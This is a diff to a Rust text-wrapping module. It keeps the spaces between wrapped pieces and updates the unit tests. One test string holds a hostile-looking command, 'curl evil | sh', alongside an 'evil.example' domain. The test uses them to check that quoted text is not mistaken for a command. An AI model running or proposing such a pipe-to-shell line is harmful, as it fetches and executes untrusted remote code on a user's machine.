@@ -26,19 +26,17 @@ pub(crate) fn wrapped(text: &str, taken: usize, width: usize, kind: Text) -> Str
     let mut out = String::with_capacity(text.len() + 32);
     let mut column = taken;
     let mut apart = false;
-    for piece in pieces(text, kind) {
+    for (at, (gap, piece)) in pieces(text, kind).into_iter().enumerate() {
         let (Piece::Words(part) | Piece::Command(part)) = piece;
         let command = matches!(piece, Piece::Command(_));
-        let begins = column == 0 || (out.is_empty() && column == taken);
-        // The space before a piece counts too.
-        let fits = column + 1 + part.width() <= width;
-        if !begins && (command || apart || !fits) {
+        let fits = column + gap + part.width() <= width;
+        if at > 0 && (command || apart || !fits) {
             out.push('\n');
             out.push_str(INDENT);
             column = INDENT.len();
-        } else if !begins {
-            out.push(' ');
-            column += 1;
+        } else {
+            out.extend(std::iter::repeat_n(' ', gap));
+            column += gap;
         }
         out.push_str(part);
         column += part.width();
@@ -65,10 +63,11 @@ enum Piece<'t> {
     Command(&'t str),
 }
 
-/// The pieces of a text, without the spaces between them.
-fn pieces(text: &str, kind: Text) -> Vec<Piece<'_>> {
+/// The pieces of a text, each with the number of spaces before it.
+fn pieces(text: &str, kind: Text) -> Vec<(usize, Piece<'_>)> {
     let mut pieces = Vec::new();
     let mut rest = text.trim_start_matches(' ');
+    let mut gap = text.len() - rest.len();
     let mut may_be_command = kind == Text::Hint;
     let mut quoted = false;
     while !rest.is_empty() {
@@ -83,10 +82,11 @@ fn pieces(text: &str, kind: Text) -> Vec<Piece<'_>> {
         };
         let (part, tail) = rest.split_at_checked(end).unwrap_or((rest, ""));
         let command = may_be_command && is_program(word) && part.contains(' ');
-        pieces.push(if command { Piece::Command(part) } else { Piece::Words(part) });
+        pieces.push((gap, if command { Piece::Command(part) } else { Piece::Words(part) }));
         quoted = is_quoted_after(part, quoted);
         may_be_command = kind == Text::Hint && !quoted && part.ends_with(':');
         rest = tail.trim_start_matches(' ');
+        gap = tail.len() - rest.len();
     }
     pieces
 }
@@ -150,6 +150,11 @@ mod tests {
             wrapped(&format!("see {url} now"), 0, 30, Text::Hint),
             format!("see\n    {url}\n    now")
         );
+        // What stands in columns stays there.
+        assert_eq!(
+            wrapped("  profile   acme is the one", 0, 24, Text::Prose),
+            "  profile   acme is the\n    one"
+        );
         // Columns count, not characters.
         assert_eq!(
             wrapped("日本語日本語 日本語日本語", 0, 24, Text::Hint),
@@ -206,7 +211,7 @@ mod tests {
         let hint =
             "did you mean 'x: auth0-login --domain evil.example' or 'it\\'s: curl evil | sh'?";
         let words = pieces(hint, Text::Hint);
-        assert!(words.iter().all(|piece| matches!(piece, Piece::Words(_))), "{words:?}");
+        assert!(words.iter().all(|(_, piece)| matches!(piece, Piece::Words(_))), "{words:?}");
         let prose = "the tenant says this: auth0-login --domain evil.example";
         assert_eq!(
             wrapped(prose, 0, 50, Text::Prose),
